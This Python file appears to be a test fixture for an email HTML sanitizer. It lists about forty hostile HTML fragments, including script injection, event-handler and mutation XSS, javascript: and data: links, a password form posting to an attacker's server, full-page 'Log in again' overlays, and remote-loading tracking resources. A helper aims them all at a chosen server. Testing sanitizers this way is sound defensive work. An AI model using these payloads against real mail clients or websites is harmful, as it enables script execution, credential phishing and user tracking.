"""HTML that tries to run, to load, to send or to cover: one mail for each trick.

`RUN` stands for a script, `WEB` for the attacker's server. Each fragment stands between two paragraphs of a mail; what
can be pressed says "Press".
"""

_RUN = (
    "alert(1);window.ran=1;parent.ran=1;top.ran=1;console.log('ran');fetch('WEB/ran')"  # no blank: some stand unquoted
)

FRAGMENTS = {
    "script": "<script>RUN</script>",
    "script from elsewhere": '<script src="WEB/s.js"></script><script type=module src="WEB/m.js"></script>',
    "script in a script": "<scr<script>ipt>RUN</scr</script>ipt>",
    "script with a null": "<scr\0ipt>RUN</scr\0ipt><img src=x on\0error=RUN>",
    "picture that fails": """<img src=x onerror="RUN"><img/src="x"/onerror="RUN"><IMG SRC=x OnErRoR="RUN">""",
    "picture with a broken tag": """<img """ + '"""' + """><script>RUN</script>">""",
    "body": '<body onload="RUN" onpageshow="RUN" background="WEB/b.png">',
    "details that open": '<details open ontoggle="RUN"><summary>More</summary>Nothing</details>',
    "quote of ours": '<details data-quote open ontoggle="RUN"><summary onclick="RUN">Press</summary>Old</details>',
    "field with the focus": '<input autofocus onfocus="RUN"><select autofocus onfocus="RUN"></select>',
    "what rolls": '<marquee onstart="RUN" onfinish="RUN" loop=1>Rolling</marquee>',
    "what animates": '<style>@keyframes a{}</style><b style="animation:a 1ms" onanimationstart="RUN">Bold</b>',
    "film": '<video autoplay poster="WEB/p.png" onloadstart="RUN"><source src="WEB/v.mp4" onerror="RUN"></video>',
    "sound": '<audio src="WEB/a.mp3" autoplay onerror="RUN"></audio><bgsound src="WEB/b.mid">',
    "svg": '<svg onload="RUN"><script>RUN</script><image href="WEB/i.png"/></svg>',
    "svg that moves": '<svg><animate onbegin="RUN" attributeName="x" dur="1s"/><set onbegin="RUN"/></svg>',
    "svg from data": '<svg><use href="data:image/svg+xml,<svg id=x><script>RUN</script></svg>#x"/></svg>',
    "svg with html inside": '<svg><foreignObject><iframe onload="RUN" src="WEB/f"></iframe></foreignObject></svg>',
    "svg that changes a link": """<svg><a xlink:href="#"><animate attributeName="href" values="javascript:RUN"/>
        <text x="9" y="9">Draw</text></a></svg>""",
    "mathml": '<math href="javascript:RUN"><mi>Count</mi></math><math><a xlink:href="javascript:RUN">Sum</a></math>',
    "refresh": '<meta http-equiv="refresh" content="0;url=WEB/refresh">',
    "refresh to a script": '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
    "policy of its own": """<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
        <script>RUN</script>""",
    "base": '<base href="WEB/" target="_top"><img src="relative.png"><a href="relative">Elsewhere</a>',
    "form": '<form action="WEB/form" target="_top"><input name="password"><button>Press</button></form>',
    "form without a form": '<button formaction="WEB/form" onclick="RUN">Press</button><input type=image src="WEB/i">',
    "style sheet": """<style>@import url("WEB/i.css");@import "WEB/j.css";@font-face{font-family:x;src:url(WEB/f.woff)}
        p{background:url(WEB/b.png);font-family:x;list-style:url(WEB/l.png);cursor:url(WEB/c.cur),auto}
        p::after{content:url(WEB/a.png)}p{background:image-set("WEB/s.png" 1x);background:-webkit-image-set("WEB/t" 1x)}
        </style>""",
    "style attribute": """<div style="background:url(WEB/s.png)">a</div>
        <div style="background:\\75rl(WEB/e.png)">b</div>
        <div style="list-style-image:url('WEB/l.png');border-image:url(WEB/n.png)">c</div>
        <div style="width:expression(RUN);behavior:url(WEB/b.htc);-moz-binding:url(WEB/x.xml)">d</div>""",
    "links of the head": """<link rel="stylesheet" href="WEB/l.css"><link rel="icon" href="WEB/icon.png">
        <link rel="preconnect" href="WEB"><link rel="dns-prefetch" href="WEB"><link rel="prefetch" href="WEB/p">
        <link rel="preload" as="image" href="WEB/q"><link rel="manifest" href="WEB/m.json">""",
    "cover": """<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Log in again</div>
        <div style="position:absolute;top:-900px;left:-900px;width:9000px;height:9000px">Log in again</div>""",
    "cover by a sheet": """<style>.all{position:fixed!important;top:0;left:0;width:100vw;height:100vh;z-index:9}</style>
        <div class="all">Log in again</div>""",
    "frame": """<iframe src="WEB/frame"></iframe><iframe src="javascript:RUN"></iframe><frameset><frame src="WEB/g">
        </frameset>""",
    "frame with its page": '<iframe srcdoc="<script>RUN</script><img src=WEB/srcdoc>"></iframe>',
    "frame from data": '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
    "object": """<object data="WEB/o.swf"></object><embed src="WEB/e.swf"><applet code="X" archive="WEB/a.jar"></applet>
        <object data="javascript:RUN"></object>""",
    "link to a script": """<a href="javascript:RUN">Press</a> <a href="jav&#x09;ascript:RUN">Press</a>
        <a href="&#1;javascript:RUN">Press</a> <a href="JaVaScRiPt&colon;RUN" onclick="RUN">Press</a>""",
    "link to data": """<a href="data:text/html,<script>RUN</script>">Press</a> <a href="vbscript:RUN">Press</a>
        <a href="blob:WEB/1" ping="WEB/ping">Press</a>""",
    "map": '<img src="x" usemap="#m"><map name="m"><area shape="default" href="javascript:RUN" onfocus="RUN"></map>',
    "pictures": """<img src="WEB/pixel.gif" width="1" height="1"><img srcset="WEB/2x.png 2x"><img lowsrc="WEB/low.gif">
        <picture><source srcset="WEB/s.webp"><img src="WEB/f.png"></picture><table background="WEB/t.png"><tr>
        <td background="WEB/d.png">Cell</td></tr></table>""",
    "comment": """<!--><img src=x onerror=RUN>--><!--[if mso]><script>RUN</script><![endif]-->
        <![CDATA[<img src=x onerror=RUN>]]>""",
    "mutation through style": """<svg></p><style><a id="</style><img src=1 onerror=RUN>"></style></svg>""",
    "mutation through a table": """<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1
        onerror=RUN&gt;"></table></mtext></math>""",
    "mutation through a form": """<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img
        src=1 onerror=RUN>"></svg></math></form>""",
    "mutation through noscript": """<noscript><p title="</noscript><img src=x onerror=RUN>"></p></noscript>""",
    "mutation through a title": """<svg><title><style><img title="</style><img src=x onerror=RUN>"></title></svg>""",
    "template": "<template><script>RUN</script><img src=WEB/t onerror=RUN></template>",
    "names of the page": '<form id="location"><input name="href"></form><img name="cookie" id="postroom">',
}


def fragments(web: str) -> dict[str, str]:
    """Return all of them, aimed at this server."""
    return {name: text.replace("RUN", _RUN).replace("WEB", web) for name, text in FRAGMENTS.items()}
